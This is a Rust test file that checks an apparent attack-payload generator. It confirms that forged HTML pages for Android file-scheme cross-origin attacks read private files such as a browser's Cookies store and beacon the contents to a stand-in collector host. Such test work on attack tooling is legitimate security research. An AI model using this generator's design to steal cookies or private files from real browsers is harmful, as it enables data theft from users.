//! Independent check that the structured plan attached to each payload
//! says the same thing as the generated HTML: the URLs a (real) browser
//! would hit are recovered from the markup with regexes and compared
//! against the plan, never against the generator's own helpers.

use filecross::forge::{forge, AttackId, AttackSpec, OriginKind, PlanAction};
use regex::Regex;

fn spec(attack_id: AttackId) -> AttackSpec {
    AttackSpec {
        attack_id,
        target_package: "com.victim.browser".into(),
        target_file: Some("app_data/Cookies".into()),
        remote_origin: Some("http://bank.example/session".into()),
        device_version: "4.3".parse().unwrap(),
        key_id: "kid123".into(),
        receiver_base: "http://collector.example:9000".into(),
    }
}

fn img_srcs(html: &str) -> Vec<String> {
    Regex::new(r"<img src='([^']*)'>")
        .unwrap()
        .captures_iter(html)
        .map(|c| c[1].to_string())
        .collect()
}

fn scripted_img_srcs(html: &str) -> Vec<String> {
    Regex::new(r"img\.src = '([^']*)'")
        .unwrap()
        .captures_iter(html)
        .map(|c| c[1].to_string())
        .collect()
}

fn xhr_targets(html: &str) -> Vec<String> {
    Regex::new(r"xhr\.open\('GET', '([^']*)', false\)")
        .unwrap()
        .captures_iter(html)
        .map(|c| c[1].to_string())
        .collect()
}

fn beacon_query(url: &str) -> Vec<(String, String)> {
    let (_, query) = url.split_once("/req?").expect("beacon URL");
    query
        .split('&')
        .map(|kv| {
            let (k, v) = kv.split_once('=').unwrap();
            (k.to_string(), v.to_string())
        })
        .collect()
}

#[test]
fn static_probe_markup_agrees_with_plan() {
    for attack in [AttackId::ProbeFileSd, AttackId::ProbeFilePrivate] {
        let payload = forge(&spec(attack)).unwrap();
        let srcs = img_srcs(&payload.html_text);
        assert_eq!(srcs.len(), 1);
        let query = beacon_query(&srcs[0]);
        let con = &query.iter().find(|(k, _)| k == "con").unwrap().1;
        match &payload.plan[..] {
            [PlanAction::StaticBeacon { con: plan_con }] => assert_eq!(plan_con, con),
            other => panic!("unexpected plan {other:?}"),
        }
        assert_eq!(
            query.iter().map(|(k, _)| k.as_str()).collect::<Vec<_>>(),
            ["pkg", "atk", "con", "ver", "kid"],
            "parameter order is fixed"
        );
    }
}

#[test]
fn js_probe_branches_agree_with_plan() {
    let payload = forge(&spec(AttackId::ProbeJs)).unwrap();
    let scripted = scripted_img_srcs(&payload.html_text);
    let noscript = img_srcs(&payload.html_text);
    assert_eq!(scripted.len(), 1);
    assert_eq!(noscript.len(), 1);
    let scripted_con = &beacon_query(&scripted[0])
        .into_iter()
        .find(|(k, _)| k == "con")
        .unwrap()
        .1;
    let noscript_con = &beacon_query(&noscript[0])
        .into_iter()
        .find(|(k, _)| k == "con")
        .unwrap()
        .1;
    match &payload.plan[..] {
        [PlanAction::ScriptedBeacon { con: a }, PlanAction::NoscriptBeacon { con: b }] => {
            assert_eq!(a, scripted_con);
            assert_eq!(b, noscript_con);
        }
        other => panic!("unexpected plan {other:?}"),
    }
}

#[test]
fn xhr_attacks_fetch_exactly_what_the_plan_says() {
    for (attack, origin) in [
        (AttackId::A2, OriginKind::CrossFile),
        (AttackId::A3, OriginKind::CrossProtocol),
    ] {
        let payload = forge(&spec(attack)).unwrap();
        let targets = xhr_targets(&payload.html_text);
        assert_eq!(targets.len(), 1, "{attack}");
        match &payload.plan[..] {
            [PlanAction::FetchAndBeacon {
                origin: plan_origin,
                url,
                delay_ms,
            }] => {
                assert_eq!(*plan_origin, origin);
                assert_eq!(url, &targets[0]);
                assert_eq!(*delay_ms, 0);
            }
            other => panic!("unexpected plan {other:?}"),
        }
        // The exfil image is built from the beacon prefix and suffix
        // around the encoded response.
        assert!(payload
            .html_text
            .contains("' + encodeURIComponent(txt) + '"));
    }
}

#[test]
fn self_read_delay_in_markup_matches_plan() {
    let payload = forge(&spec(AttackId::A4)).unwrap();
    let delay = Regex::new(r"\}, (\d+)\);")
        .unwrap()
        .captures(&payload.html_text)
        .map(|c| c[1].parse::<u64>().unwrap())
        .expect("setTimeout delay in markup");
    match &payload.plan[..] {
        [PlanAction::FetchAndBeacon {
            origin: OriginKind::SelfDocument,
            url,
            delay_ms,
        }] => {
            assert_eq!(*delay_ms, delay);
            assert_eq!(url, &payload.intent_data_url, "reads its own URL");
        }
        other => panic!("unexpected plan {other:?}"),
    }
    // The page itself reads document.URL, not a hardcoded path.
    assert!(payload.html_text.contains("document.URL"));
}
